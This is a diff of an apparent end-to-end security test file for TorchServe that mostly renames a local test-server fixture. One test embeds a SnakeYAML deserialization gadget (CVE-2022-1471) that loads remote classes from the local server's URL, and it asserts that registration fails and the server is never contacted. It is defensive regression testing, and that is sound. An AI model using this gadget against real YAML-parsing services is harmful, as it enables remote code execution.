@@ -10,32 +10,32 @@ from pathlib import Path
 import grpc
 import pytest
 
-from scripts import server
 from scripts.archive import MANIFEST
-from scripts.client import Client
+from scripts.client.http import Client
 from scripts.errors import ApiError
+from scripts.server import torchserve
 from tests.e2e.attacks import PATIENCE_SECONDS, grpc_status, write_code
-from tests.scripts.web import Web, serve
+from tests.local_server import LocalServer, serve
 
 
 @pytest.fixture
-def web() -> Iterator[Web]:
+def local() -> Iterator[LocalServer]:
     with serve() as running:
         yield running
 
 
-def test_a_models_settings_load_no_java_class(client: Client, web: Web, tmp_path: Path) -> None:
+def test_a_models_settings_load_no_java_class(client: Client, local: LocalServer, tmp_path: Path) -> None:
     """CVE-2022-1471: SnakeYAML before 2.0 would fetch code from this address and run it."""
     folder = write_code(tmp_path / "yaml", "yaml")
     manifest = json.loads((folder / MANIFEST).read_text())
     manifest["model"]["configFile"] = "model-config.yaml"
     (folder / MANIFEST).write_text(json.dumps(manifest))
-    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{web.url}/"]]]]'
+    gadget = f'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["{local.url}/"]]]]'
     (folder / "model-config.yaml").write_text(f"minWorkers: {gadget}\n")
     try:
         with pytest.raises(ApiError):
             client.register(str(folder))
-        assert web.asked == []
+        assert local.asked == []
     finally:
         if client.versions("yaml"):
             client.unregister("yaml")
@@ -57,7 +57,7 @@ def test_an_archive_installs_no_packages(client: Client, tmp_path: Path) -> None
 
 @pytest.mark.parametrize("over", ["http", "grpc"])
 def test_where_models_may_be_registered_a_management_token_runs_any_code(
-    client: Client, running: server.Server, tmp_path: Path, over: str
+    client: Client, running: torchserve.Server, tmp_path: Path, over: str
 ) -> None:
     """What remains without --fixed-models: allowed_urls does not apply to a bare folder. Should this fail, TorchServe's
     behaviour has changed, and docs/security.md has to.
